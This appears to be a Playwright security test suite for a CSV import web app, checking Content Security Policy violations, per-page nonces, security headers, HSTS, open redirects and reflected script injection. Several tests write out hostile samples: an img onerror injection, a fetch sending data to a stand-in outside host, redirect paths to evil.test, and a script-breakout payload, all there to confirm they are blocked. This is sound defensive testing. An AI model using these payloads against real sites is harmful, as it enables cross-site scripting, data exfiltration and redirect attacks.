import { connect } from 'node:net';
import { expect, type Page, test } from '@playwright/test';

const address = () => process.env.SLUICE_URL ?? '';

/** Collects what the browser's own policy blocked, on every page from now on. */
async function violations(page: Page): Promise<string[]> {
  const found: string[] = [];
  await page.exposeFunction('noteViolation', (line: string) => found.push(line));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const note: unknown = Reflect.get(window, 'noteViolation');
      if (typeof note === 'function') {
        note(
          `${event.effectiveDirective} blocked ${event.blockedURI} ${event.sample} on ${location.pathname}`,
        );
      }
    });
  });
  return found;
}

test('every page works under its policy, from the upload to undo', async ({ page }) => {
  const found = await violations(page);
  await page.goto(address());
  await page.getByLabel(/choose files/i).setInputFiles({
    name: 'under a policy.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from('n,word\n1,visible\n2,also\n'),
  });
  await expect(page.getByRole('table', { name: 'Preview' })).toBeVisible();
  await page.getByRole('button', { name: 'Start import' }).click();
  await expect(page.getByRole('heading', { name: 'Receipt' })).toBeVisible();
  await page.getByRole('button', { name: /undo/i }).first().click();
  await expect(page.getByRole('alertdialog')).toBeVisible();
  // The dialog's own style element is applied, so the page behind does not scroll.
  await expect(page.locator('body')).toHaveCSS('overflow', 'hidden');
  await page.getByRole('alertdialog').getByRole('button', { name: /undo/i }).click();
  await expect(page.getByRole('main').getByRole('button', { name: /redo/i })).toBeVisible();
  for (const path of ['/imports', '/datasets', '/datasets/under_a_policy', '/no-such-page', '/']) {
    await page.goto(address() + path);
    await expect(page.getByRole('link', { name: 'History' }).first()).toBeVisible();
    await page.waitForLoadState('networkidle', { timeout: 2_000 }).catch(() => undefined);
  }
  await page.goto(`${address()}/api-reference`);
  await page.getByText('Begin an import', { exact: true }).click();
  await expect(page.getByText('Idempotency-Key').first()).toBeVisible();
  expect(found).toEqual([]);
});

test('a script that was smuggled in does not run, and reaches no other address', async ({ page }) => {
  const found = await violations(page);
  await page.goto(`${address()}/imports`);
  const ran = await page.evaluate(async () => {
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="/missing.png" onerror="window.smuggled = true">';
    document.body.append(holder);
    await new Promise((done) => setTimeout(done, 500));
    const sent = await fetch('https://elsewhere.test/', { method: 'POST', body: 'cells' }).then(
      () => true,
      () => false,
    );
    return { smuggled: Reflect.get(window, 'smuggled') === true, sent };
  });
  expect(ran).toEqual({ smuggled: false, sent: false });
  // The page tells of them in its own time.
  await expect.poll(() => found.join('\n')).toMatch(/^script-src-attr blocked/m);
  await expect.poll(() => found.join('\n')).toMatch(/^connect-src blocked https:\/\/elsewhere\.test/m);
});

test('every answer carries the headers, and a page a nonce of its own', async () => {
  const nonceOf = (policy: string) => /'nonce-([^']+)'/.exec(policy)?.[1] ?? '';
  const policies = [];
  for (const path of ['/', '/imports', '/no-such-page', '/']) {
    const answer = await fetch(address() + path);
    const policy = answer.headers.get('content-security-policy') ?? '';
    const text = await answer.text();
    expect(policy).not.toMatch(/script-src [^;]*unsafe/);
    expect(policy).toContain(`connect-src 'self' ${process.env.SLUICE_STORE};`);
    expect(policy).toContain("frame-ancestors 'none'");
    const scripts = [...text.matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag);
    expect(scripts.length).toBeGreaterThan(0);
    for (const tag of scripts) expect(tag).toContain(`nonce="${nonceOf(policy)}"`);
    policies.push(nonceOf(policy));
  }
  expect(new Set(policies).size).toBe(4);

  for (const path of ['/', '/api/health', '/api/v1/imports', '/icon.svg']) {
    const { headers } = await fetch(address() + path, { redirect: 'manual' });
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('x-frame-options')).toBe('DENY');
    expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
    expect(headers.get('permissions-policy')).toContain('camera=()');
    expect(headers.get('referrer-policy')).toBe('same-origin');
    expect(headers.get('x-powered-by')).toBeNull();
    expect(headers.get('strict-transport-security')).toBeNull();
  }
  const api = await fetch(`${address()}/api/v1/imports`);
  expect(api.headers.get('content-security-policy')).toContain("default-src 'none'");
});

test('a browser is told to stay with https where a proxy says that it came by it', async () => {
  for (const path of ['/', '/api/health']) {
    const { headers } = await fetch(address() + path, { headers: { 'x-forwarded-proto': 'https' } });
    expect(headers.get('strict-transport-security')).toBe('max-age=31536000');
  }
});

test('redirects stay on this site, and what stands in an address is no markup', async () => {
  for (const path of [
    '//evil.test/',
    '/\\evil.test/',
    '//evil.test//..',
    '/%5cevil.test/',
    '/%2f%2fevil.test/',
  ]) {
    const { hostname, port } = new URL(address());
    const head = await new Promise<string>((resolve, reject) => {
      const socket = connect(Number(port), hostname, () => {
        socket.write(`GET ${path} HTTP/1.1\r\nhost: ${hostname}:${port}\r\nconnection: close\r\n\r\n`);
      });
      socket.once('data', (piece) => {
        resolve(String(piece).split('\r\n\r\n')[0] ?? '');
        socket.destroy();
      });
      socket.once('error', reject);
    });
    const to = /^location: (.*)$/im.exec(head)?.[1] ?? '/';
    expect(new URL(to.trim(), address()).origin, `${path} → ${to}`).toBe(new URL(address()).origin);
  }
  const attack = `</script><script>alert(4711)</script>";}alert(4711)`;
  for (const path of [`/?q=${encodeURIComponent(attack)}`, `/imports/${encodeURIComponent(attack)}`]) {
    const text = await (await fetch(address() + path)).text();
    expect(text).not.toContain('<script>alert(4711)');
    expect(text).not.toContain('";}alert(4711)');
  }
});
